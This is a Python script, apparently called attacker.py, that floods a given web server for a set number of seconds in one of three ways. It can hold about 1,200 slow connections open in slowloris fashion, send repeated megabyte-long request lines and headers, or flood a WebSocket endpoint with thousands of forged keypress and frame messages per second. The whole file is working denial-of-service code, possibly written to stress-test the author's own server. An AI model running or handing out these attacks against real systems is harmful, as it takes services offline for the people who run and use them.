"""A program that wrongs a page's server for some seconds.

Usage: attacker.py ADDRESS KIND SECONDS, with KIND one of `slow`, `long` and `flood`.
"""

import socket
import struct
import sys
import time
from urllib.parse import urlsplit

SLOW_CONNECTIONS = 1200
MESSAGES_PER_SECOND = 10_000
MEGABYTE = 1 << 20


def reach(address):
    return socket.create_connection((address.hostname, address.port))


def connect(url):
    """A socket to the device over which a program speaks as a page does."""
    address = urlsplit(url)
    connection = reach(address)
    connection.settimeout(10)
    connection.sendall(
        f"GET {address.path}socket HTTP/1.1\r\nHost: {address.netloc}\r\n"
        f"Origin: http://{address.netloc}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n".encode()
    )
    # No more than the answer: the first messages may come along with it.
    answer = b""
    while not answer.endswith(b"\r\n\r\n"):
        byte = connection.recv(1)
        assert byte, answer
        answer += byte
    assert b" 101 " in answer.split(b"\r\n")[0]
    return connection


def frame(message):
    """A message as a browser frames it, with a mask that changes nothing."""
    data = message.encode()
    length = bytes([0x80 | len(data)]) if len(data) < 126 else struct.pack(">BH", 0xFE, len(data))
    return b"\x81" + length + bytes(4) + data


def dawdle(url, end):
    """Many connections that send a byte now and then, opened anew when they are closed."""
    address = urlsplit(url)
    request = f"GET / HTTP/1.1\r\nHost: {address.netloc}\r\nX: ".encode()
    connections = []
    while time.monotonic() < end:
        while len(connections) < SLOW_CONNECTIONS and time.monotonic() < end:
            try:
                connection = reach(address)
                connection.setblocking(False)
                connection.send(request)
                connections.append(connection)
            except OSError:
                break
        alive = []
        for connection in connections:
            try:
                connection.send(b"x")
                alive.append(connection)
            except OSError:
                connection.close()
        connections = alive
        time.sleep(0.05)


def ramble(url, end):
    """Request lines and headers of a megabyte, one after the other."""
    address = urlsplit(url)
    line = b"GET /" + b"x" * MEGABYTE
    header = f"GET / HTTP/1.1\r\nHost: {address.netloc}\r\nX: ".encode() + b"x" * MEGABYTE
    while time.monotonic() < end:
        for request in (line, header):
            connection = reach(address)
            try:
                connection.sendall(request)
            except OSError:
                pass
            connection.close()


def flood(url, end):
    """Messages of a page that knows the secret word, faster than any person."""
    connection = connect(url)
    connection.setblocking(False)
    key = '{"key":{"_0":{"isDown":false,"code":"KeyA","characters":"","modifiers":0,"isRepeat":false}}}'
    batch = (frame('{"gotFrame":{}}') + frame(key)) * (MESSAGES_PER_SECOND // 200)
    waiting = b""
    while time.monotonic() < end:
        waiting = waiting or batch
        try:
            connection.recv(1 << 20)
        except BlockingIOError:
            pass
        try:
            waiting = waiting[connection.send(waiting):]
        except BlockingIOError:
            pass
        time.sleep(0.01)


if __name__ == "__main__":
    url, kind, seconds = sys.argv[1:]
    {"slow": dawdle, "long": ramble, "flood": flood}[kind](url, time.monotonic() + float(seconds))
